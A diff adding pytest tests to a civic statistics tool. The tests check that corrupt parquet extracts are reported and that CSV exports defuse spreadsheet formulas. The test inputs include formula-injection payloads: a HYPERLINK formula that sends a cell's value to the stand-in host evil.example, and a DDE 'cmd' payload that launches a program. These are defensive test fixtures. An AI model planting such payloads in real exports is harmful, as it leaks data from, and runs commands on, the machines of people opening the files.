@@ -378,3 +378,60 @@ def test_explore_limits_hold_and_say_so_beside_the_cell(testville: CityStat, sql
     result = run_cell(testville.engine, sql, time_limit=1)
     assert result.error is not None and phrase.lower() in result.error.lower(), result.error
     assert run_cell(testville.engine, "SELECT count(*) AS n FROM requests").frame["n"][0] == 1120
+
+
+# ---- damaged files and spreadsheet formulas -----------------------------------------------------
+
+def damage(file: Path, start: int, stop: int) -> None:
+    data = bytearray(file.read_bytes())
+    data[start:stop] = b"\xff" * (stop - start)
+    file.write_bytes(bytes(data))
+
+
+def test_a_corrupt_parquet_page_is_named_as_a_corrupt_file(tmp_path: Path) -> None:
+    from citystat.analyst.explore import run_cell
+
+    path = make_city(tmp_path / "city")
+    damage(path.parent / "data" / "requests.parquet", 4, 40)  # the first page header
+    stat = CityStat.open(path, use_disk_cache=False).sync()
+    result = run_cell(stat.engine, "SELECT * FROM requests")
+    assert result.error.startswith(f"the extract {path.parent / 'data' / 'requests.parquet'} is corrupt"), result.error
+    assert run_cell(stat.engine, "SELECT count(*) AS n FROM cases").ok  # the other extracts serve
+
+
+def test_a_corrupt_parquet_footer_is_named_as_a_corrupt_file(tmp_path: Path) -> None:
+    path = make_city(tmp_path / "city")
+    file = path.parent / "data" / "old_feed.parquet"
+    damage(file, file.stat().st_size - 40, file.stat().st_size - 8)
+    stat = CityStat.open(path, use_disk_cache=False).sync()
+    problem = next(p for p in stat.problems() if p.entry == "source old_feed")
+    assert problem.line == line_of(REGISTRY, "id: old_feed")
+    assert "cannot read 'data/old_feed.parquet': the file is corrupt" in problem.message
+    assert {r.metric.id: r for r in stat.overview()}["requests_count"].current["value"] == 140
+
+
+@pytest.mark.parametrize("typed", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "+1+cmd|' /C calc'!A0",
+                                   "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
+def test_csv_downloads_neutralise_spreadsheet_formulas(typed: str) -> None:
+    import io
+
+    import polars as pl
+
+    from citystat.files.csv import csv_text
+
+    frame = pl.DataFrame({"commitment": [typed, "Fix 40 potholes"], "owner": ["Chief", "=cmd"], "n": [-3, 4]})
+    back = pl.read_csv(io.StringIO(csv_text(frame)))
+    assert back["commitment"].to_list() == ["'" + typed, "Fix 40 potholes"]
+    assert back["owner"].to_list() == ["Chief", "'=cmd"]
+    assert back["n"].to_list() == [-3, 4]  # numbers stay numbers
+
+
+def test_open_data_csv_downloads_neutralise_formulas(tmp_path: Path) -> None:
+    import io
+
+    import polars as pl
+
+    from citystat.publish.catalog import to_bytes
+
+    frame = pl.DataFrame({"district": ["=1+1", "D1"]})
+    assert pl.read_csv(io.BytesIO(to_bytes(frame, "csv")))["district"].to_list() == ["'=1+1", "D1"]
